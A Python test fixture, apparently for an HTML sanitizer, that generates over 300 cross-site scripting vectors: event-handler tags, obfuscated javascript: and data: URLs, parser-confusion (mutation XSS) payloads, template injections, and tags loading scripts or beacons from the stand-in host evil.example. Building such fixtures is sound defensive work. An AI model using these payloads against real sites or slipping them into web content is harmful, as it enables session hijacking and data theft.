"""Three hundred ways to put something active into words; none of them may do anything."""

from __future__ import annotations

from itertools import product

_EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onwheel", "ONERROR", "onbeforetoggle",
]  # fmt: skip
_TAGS = [
    "img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee", "a href=#", "p",
    "audio src=x", "iframe srcdoc='<p>x'", "object data=x", "math", "select autofocus",
]  # fmt: skip
_SCHEMES = [
    "javascript:owned()", "JaVaScRiPt:owned()", " javascript:owned()", "java\tscript:owned()",
    "java\nscript:owned()", "java\u200bscript:owned()", "\x01javascript:owned()", "javascript&colon;owned()",
    "&#106;avascript:owned()", "&#x6A;avascript:owned()", "jav&#x0A;ascript:owned()", "vbscript:owned()",
    "data:text/html,<script>owned()</script>", "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+",
    "livescript:owned()", "mocha:owned()", "feed:javascript:owned()", "view-source:javascript:owned()",
    "//evil.example/x.js", "javascript://x.example/%0aowned()", "blob:owned", "filesystem:owned", "about:blank",
]  # fmt: skip
_HOLDERS = [
    '<a href="{}">x</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>', '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">',
    '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
]  # fmt: skip
_WHOLE = [
    "<script>owned()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>owned()</script>",
    "<scr<script>ipt>owned()</scr</script>ipt>", "<script>owned()", "<<script>owned();//<</script>",
    "<script\x0b>owned()</script>", "</title><script>owned()</script>", "</textarea><script>owned()</script>",
    "--><script>owned()</script>", "]]><script>owned()</script>", "\"><script>owned()</script>",
    "'><img src=x onerror=owned()>", "`><img src=x onerror=owned()>", "<style>*{position:fixed;inset:0}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p style=\"background:url(javascript:owned())\">x</p>", "<div class='brand join skip'>x</div>",
    "<svg><style><img src=x onerror=owned()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=owned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>", "<svg></p><style><a id='</style><img src=x onerror=owned()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=owned()>",
    "<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>",
    "<template><script>owned()</script></template>", "<xmp><script>owned()</script></xmp>",
    "<plaintext><script>owned()</script>", "<listing>&lt;img src=x onerror=owned()&gt;</listing>",
    "<select><style></select><img src=x onerror=owned()></style>", "<table><td background='javascript:owned()'>",
    "<isindex type=image src=x onerror=owned()>", "<input type=image src=x onerror=owned()>",
    "<keygen autofocus onfocus=owned()>", "<frameset onload=owned()>", "<bgsound src=javascript:owned()>",
    "<layer src=//evil.example/>", "<ilayer src=//evil.example/>", "<applet code=x></applet>",
    "<a id=x name=getElementById>x</a>", "<img name=cookie>", "<form id=location><input name=href></form>",
    "<a target=_blank href=https://a.example>x</a>", "<a ping=//evil.example/ href=https://a.example>x</a>",
    "<a download href=https://a.example>x</a>", "<p contenteditable autofocus onfocus=owned()>x</p>",
    "<dialog open>x</dialog>", "<portal src=//evil.example/>", "<fencedframe>x</fencedframe>",
    "<link rel=prefetch href=//evil.example/>", "<audio autoplay src=//evil.example/x.ogg>",
    "<video poster=//evil.example/x.png>", "<picture><source srcset=//evil.example/x.png><img></picture>",
    "<img srcset='//evil.example/x.png 1x'>", "<svg><image href=//evil.example/x.png></svg>",
    "<svg><use href=//evil.example/x.svg#x></svg>", "<svg><animate onbegin=owned() attributeName=x>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>owned()</x:script>",
    "<!--[if gte IE 4]><script>owned()</script><![endif]-->", "<!DOCTYPE x [<!ENTITY e 'x'>]>&e;",
    "{{ 7*7 }}{% raw %}<script>owned()</script>", "${owned()}", "<% owned() %>", "&lt;script&gt;owned()&lt;/script&gt;",
    "&#60;script&#62;owned()&#60;/script&#62;", "\u003cscript\u003eowned()\u003c/script\u003e",
    "＜script＞owned()＜/script＞", "+ADw-script+AD4-owned()+ADw-/script+AD4-",
]  # fmt: skip

VECTORS: list[str] = [
    *_WHOLE,
    *(f"<{tag} {event}=owned()>" for tag, event in product(_TAGS, _EVENTS[:8])),
    *(f"<img src=x {event}\n=\n'owned()'>" for event in _EVENTS),
    *(holder.format(scheme) for holder, scheme in product(_HOLDERS[:5], _SCHEMES)),
    *(holder.format(_SCHEMES[0]) for holder in _HOLDERS[5:]),
    *(holder.format(_SCHEMES[12]) for holder in _HOLDERS[5:]),
]
assert len(VECTORS) >= 300
